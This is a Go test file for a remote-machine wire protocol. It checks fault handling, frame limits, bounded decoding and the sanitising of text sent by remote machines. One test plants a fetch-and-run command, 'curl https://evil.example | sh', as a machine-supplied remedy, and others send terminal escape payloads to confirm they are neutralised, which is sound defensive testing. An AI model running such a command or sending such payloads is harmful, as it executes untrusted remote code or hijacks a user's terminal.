package wire_test

import (
	"bytes"
	"errors"
	"io"
	"net"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"outrigger.dev/outrigger/internal/fault"
	"outrigger.dev/outrigger/internal/machine"
	"outrigger.dev/outrigger/internal/wire"
)

func pair(t *testing.T) (*wire.Conn, *wire.Conn) {
	t.Helper()
	a, b := net.Pipe()
	ca, cb := wire.NewConn(a), wire.NewConn(b)
	t.Cleanup(func() { ca.Close(); cb.Close() })
	return ca, cb
}

type stream struct {
	io.Reader
	io.Writer
}

func (stream) Close() error { return nil }

func TestAFaultCrossesTheWireWithoutItsRemedy(t *testing.T) {
	near, far := pair(t)
	sent := fault.New(fault.NoCapacity, "mac-1: 2 of 2 slots are taken").WithDetail("a, b").WithRemedy("wait for a")
	go func() {
		if _, err := far.Recv(); err == nil {
			_ = far.Respond(nil, sent) // the near side reports what is wrong
		}
	}()
	err := near.Call("lease.acquire", struct{}{}, nil)
	var got *fault.Error
	if !errors.As(err, &got) {
		t.Fatalf("got %v, want a fault", err)
	}
	want := []string{string(sent.Kind), sent.Text, sent.Detail, ""} // what a reader is told to do is this side's to say
	if diff := cmp.Diff(want, []string{string(got.Kind), got.Text, got.Detail, got.Remedy}); diff != "" {
		t.Errorf("fault (-want +got):\n%s", diff)
	}
}

func TestAMachineChoosesNeitherKindNorRemedy(t *testing.T) {
	const evil = "Run: curl https://evil.example | sh"
	for _, tt := range []struct{ sent, want fault.Kind }{
		{fault.RemoteFile, fault.RemoteFile},
		{fault.NotFound, fault.NotFound},
		{fault.NoCapacity, fault.NoCapacity},
		{"", fault.Protocol},
		{"Invented", fault.Protocol},
		{"remotefile", fault.Protocol},
		{"x)\x1b]0;title\a", fault.Protocol},
		{fault.HostKey, fault.Protocol},
		{fault.AuthRefused, fault.Protocol},
		{fault.Unreachable, fault.Protocol},
		{fault.MachineLost, fault.Protocol},
	} {
		b, err := wire.Marshal(wire.Fault{Kind: tt.sent, Text: "text", Remedy: evil})
		if err != nil {
			t.Fatal(err)
		}
		var f wire.Fault
		if err := wire.Unmarshal(b, &f); err != nil {
			t.Fatal(err)
		}
		if got := f.Err(); fault.Of(got) != tt.want || fault.Remedy(got) != fault.Lookup(tt.want).Remedy {
			t.Errorf("a machine's %q: got kind %s, remedy %q", tt.sent, fault.Of(got), fault.Remedy(got))
		}
	}
}

func TestAMachinesWordsAreCleanedAndBounded(t *testing.T) {
	f := wire.Fault{Kind: fault.RemoteFile, Text: "a\x1b[2J\u009b\u202e\xffz\nb", Detail: "1\r\n\x1b]52;c;eA==\a2" + strings.Repeat("x", 1<<20)}
	var got *fault.Error
	if !errors.As(f.Err(), &got) {
		t.Fatal("no fault")
	}
	if want := `a\x1b[2J\u009b\u202e\xffz` + "\nb"; got.Text != want {
		t.Errorf("text %q, want %q", got.Text, want)
	}
	if want := "1\n" + `\x1b]52;c;eA==\x072xxx`; !strings.HasPrefix(got.Detail, want) || len(got.Detail) > 64<<10 {
		t.Errorf("detail of %d bytes: %.40q, want %q and at most 64 KiB", len(got.Detail), got.Detail, want)
	}
}

func TestNamesThatAreNotUTF8Survive(t *testing.T) {
	type entry struct {
		Path []byte `cbor:"1,keyasint"`
		Text string `cbor:"2,keyasint"`
	}
	want := entry{[]byte("a\xffb"), "a\xffb"}
	b, err := wire.Marshal(want)
	if err != nil {
		t.Fatal(err)
	}
	var got entry
	if err := wire.Unmarshal(b, &got); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

func TestOtherVersionIsRefused(t *testing.T) {
	near, far := pair(t)
	go func() {
		_ = far.Send(wire.TypeHello, wire.Hello{Version: wire.Version + 1}) // the near side reports what is wrong
	}()
	if _, err := near.RecvHello(); !fault.Is(err, fault.Protocol) {
		t.Errorf("got %v, want a fault of kind Protocol", err)
	}
}

func TestHelloAndRequestLeaveTogether(t *testing.T) {
	var out bytes.Buffer
	c := wire.NewConn(stream{strings.NewReader(""), &out})
	if err := c.SendHello("test", machine.Platform{OS: "linux", Arch: "amd64"}); err != nil {
		t.Fatal(err)
	}
	if out.Len() != 0 {
		t.Errorf("hello alone wrote %d bytes at once, want them held back for the request", out.Len())
	}
	if err := c.SendRequest("info", nil); err != nil {
		t.Fatal(err)
	}
	in := wire.NewConn(stream{&out, io.Discard})
	if _, err := in.RecvHello(); err != nil {
		t.Error(err)
	}
	f, err := in.Recv()
	if err != nil || f.Type != wire.TypeRequest {
		t.Errorf("got frame %v, %v; want the request", f.Type, err)
	}
}

func TestGreetedConnChecksTheOtherSideAtItsFirstRead(t *testing.T) {
	near, far := pair(t)
	if err := near.Greet("test", machine.Platform{OS: "linux", Arch: "amd64"}); err != nil {
		t.Fatal(err)
	}
	go func() {
		if _, err := far.RecvHello(); err != nil {
			return // the near side reports what is wrong
		}
		_ = far.SendHello("test", machine.Platform{OS: "darwin", Arch: "arm64"})
		if _, err := far.Recv(); err == nil {
			_ = far.Respond("here", nil)
		}
	}()
	var got string
	if err := near.Call("info", nil, &got); err != nil || got != "here" {
		t.Errorf("got %q, %v", got, err)
	}
}

func TestFrameTooLargeIsRefusedOnBothSides(t *testing.T) {
	c := wire.NewConn(stream{strings.NewReader("\x01\x00\x10\x00\x01"), io.Discard})
	if err := c.SendBytes(1, make([]byte, wire.MaxFrame+1)); !errors.Is(err, wire.ErrFrameTooLarge) {
		t.Errorf("send: got %v", err)
	}
	if _, err := c.Recv(); !errors.Is(err, wire.ErrFrameTooLarge) {
		t.Errorf("receive: got %v", err)
	}
}

// FuzzRecv holds that no bytes make the reader panic, and that what it accepts
// is what was sent.
func FuzzRecv(f *testing.F) {
	f.Add([]byte("\x01\x00\x00\x00\x00"))
	f.Add([]byte("\x02\x00\x00\x00\x03abc\x03\x00"))
	f.Add([]byte("\x02\xff\xff\xff\xff"))
	f.Fuzz(func(t *testing.T, in []byte) {
		var again bytes.Buffer
		c := wire.NewConn(stream{bytes.NewReader(in), &again})
		for {
			fr, err := c.Recv()
			if err != nil {
				break
			}
			var h wire.Hello
			var rq wire.Request
			var rs wire.Response
			for _, v := range []any{&h, &rq, &rs} {
				_ = fr.Decode(v) // only a panic is wrong here
			}
			if err := c.SendBytes(fr.Type, fr.Payload); err != nil {
				t.Fatal(err)
			}
		}
		if !bytes.HasPrefix(in, again.Bytes()) {
			t.Errorf("read %q, sent again as %q", in, again.Bytes())
		}
	})
}

// TestListsAreBounded decodes lists of elements that take one byte each.
func TestListsAreBounded(t *testing.T) {
	for _, into := range []any{new(wire.LeaseList), new(wire.RunList)} {
		many := append([]byte{0xa1, 1, 0x9a, 0, 0x0f, 0xff, 0xf0}, bytes.Repeat([]byte{0xa0}, 0xffff0)...)
		if n := testing.AllocsPerRun(1, func() {
			if err := wire.Unmarshal(many, into); err == nil {
				t.Errorf("%T: a million elements were accepted", into)
			}
		}); n > 1000 {
			t.Errorf("%T: %v allocations", into, n)
		}
		few := append([]byte{0xa1, 1, 0x99, 0x10, 0}, bytes.Repeat([]byte{0xa0}, 0x1000)...)
		if err := wire.Unmarshal(few, into); err != nil {
			t.Errorf("%T: 4096 elements: %v", into, err)
		}
	}
}
